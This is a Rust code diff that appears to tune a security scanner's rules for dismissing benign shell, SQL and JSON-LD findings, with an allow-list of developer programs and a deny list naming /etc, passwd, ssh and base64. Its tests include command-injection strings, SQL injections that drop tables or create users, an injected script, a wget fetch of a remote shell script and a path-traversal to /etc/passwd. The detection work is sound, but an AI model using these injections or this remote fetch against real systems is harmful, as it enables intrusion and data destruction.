@@ -20,10 +20,28 @@ const ORDINARY: &[&str] = &[
     "code.sql-select",
     "code.sql-tautology",
 ];
-/// Programs that are run one after the other all day.
+/// Programs that are run one after the other all day, and what their output goes through.
 const PROGRAMS: &[&str] = &[
-    "apt", "apt-get", "brew", "bundle", "cargo", "cd", "cmake", "composer", "cp", "docker", "git", "go",
-    "make", "mkdir", "mv", "npm", "npx", "pip", "pip3", "pnpm", "poetry", "tar", "unzip", "yarn",
+    "apt", "apt-get", "awk", "brew", "bundle", "cargo", "cd", "cmake", "composer", "cp", "cut", "docker",
+    "du", "echo", "export", "find", "git", "go", "grep", "gunzip", "gzip", "head", "jq", "kubectl", "ls",
+    "make", "mkdir", "mv", "npm", "npx", "pip", "pip3", "pnpm", "poetry", "printf", "ps", "rg", "rm", "sed",
+    "sleep", "sort", "tail", "tar", "tee", "touch", "tr", "uniq", "unzip", "wc", "xargs", "yarn", "zcat",
+    "zip",
+];
+/// What such a program does not do all day.
+const DEEDS: &[&str] = &[
+    "-exec",
+    "/dev/",
+    "/etc",
+    "/proc",
+    "/root",
+    "0.0.0.0",
+    "authorized",
+    "base64",
+    "history",
+    "http",
+    "passwd",
+    "ssh",
 ];
 /// So much of a value is read.
 const LONGEST: usize = 4096;
@@ -35,7 +53,9 @@ pub(super) fn explains(text: &str, one: &Finding) -> bool {
             "code.ldap" => is_filter(text),
             "code.path-log" => is_log(text),
             "code.path-climb" | "code.path-climb-file" | "code.path-file" => is_question(text),
-            "code.shell-command" => is_chain(text),
+            "code.shell-command" | "code.sql-breakout" => is_chain(text),
+            "code.sql-stacked" => is_script(text),
+            "code.xss-script" => is_block_of_data(text),
             // Who may log in is more than how a database is built.
             "code.sql-schema" => is_statement(text) && !names_people(text, one),
             rule if ORDINARY.contains(&rule) => is_statement(text),
@@ -65,13 +85,38 @@ fn names_people(text: &str, one: &Finding) -> bool {
     name.contains("user") && !name.contains("user_tables") || name.contains("shadow")
 }
 
-/// Programs of a developer, one after the other, from the first word on.
+/// Programs of a developer, one after the other or each with what the one before it says, from the first word on.
 fn is_chain(text: &str) -> bool {
     let program = |part: &str| {
-        let name = part.trim_start().split(' ').next().unwrap_or_default();
-        PROGRAMS.contains(&name) && part.trim_start().contains(' ')
+        let mut words = part.split_whitespace();
+        let name = words.next().unwrap_or_default();
+        PROGRAMS.contains(&name) && words.next().is_some()
     };
-    !text.contains([';', '|', '`', '$', '\n', '<', '>']) && text.replace("&&", "\0").split('\0').all(program)
+    let plain = !text.contains(['`', '\n', '<', '>', '\\']) && !text.contains("$(") && !text.contains("${");
+    let parts = text.replace("&&", "\0").replace("||", "\0");
+    plain && !DEEDS.iter().any(|deed| text.contains(deed)) && parts.split(['\0', '|', ';']).all(program)
+}
+
+/// Statements one after the other, from the first word on, none of which takes anything away or gives rights.
+fn is_script(text: &str) -> bool {
+    const STEPS: &[&str] =
+        &["alter", "begin", "commit", "create", "insert", "select", "set", "update", "with"];
+    let first = |part: &str| part.split_whitespace().next().unwrap_or_default().to_ascii_lowercase();
+    let lower = text.to_ascii_lowercase();
+    let taken =
+        ["drop ", "grant ", "login", "password", "role", "user"].iter().any(|word| lower.contains(word));
+    let mut parts = text.trim().trim_end_matches(';').split(';');
+    !taken
+        && text.matches('\'').count().is_multiple_of(2)
+        && !["/*", "--", "@@", "0x"].iter().any(|mark| text.contains(mark))
+        && parts.all(|part| STEPS.contains(&first(part).as_str()))
+}
+
+/// What a page says of itself to a search engine, which no browser runs.
+fn is_block_of_data(text: &str) -> bool {
+    let types = ["application/ld+json", "application/json"];
+    let opens = |kind: &&str| text.trim_start().starts_with(&format!("<script type=\"{kind}\">"));
+    types.iter().any(opens) && text.matches('<').count() == 2
 }
 
 /// One filter, whose first bracket is closed by its last.
@@ -128,6 +173,12 @@ mod tests {
             "map(select(.age > 3)) | length",
             "git pull && tar czf all.tgz docs",
             "/var/log/nginx/access.log",
+            "find . -name '*.tmp' -delete && rm -rf build/",
+            "ps aux | grep java | awk '{print $2}' | xargs -r kill -15",
+            "ALTER TABLE bills ADD COLUMN paid_at date; UPDATE bills SET paid_at = sent_at WHERE state = 'paid';",
+            "BEGIN; INSERT INTO bills (id) VALUES (7); COMMIT;",
+            "<script type=\"application/ld+json\">{\"@type\": \"Recipe\"}</script>",
+            "$page = simplexml_load_file('news.xml');",
             "Why do some logs hold paths such as ../../etc/passwd?",
         ] {
             assert!(!flags(text), "{text}");
@@ -140,6 +191,13 @@ mod tests {
             "SELECT name FROM sysusers",
             "a.tgz && tar xf b.tgz",
             "git pull && whoami",
+            "ls | id",
+            "find . -name a; cat /etc/hosts",
+            "a.txt; rm -rf build",
+            "7; UPDATE bills SET paid = 1",
+            "UPDATE bills SET paid = 1; DROP TABLE bills",
+            "SELECT 1; CREATE USER eve",
+            "<script type=\"application/ld+json\">{}</script><script>a()</script>",
             "git pull && wget http://a.example/b.sh",
             "cd a && sudo make",
             "../../etc/passwd?",
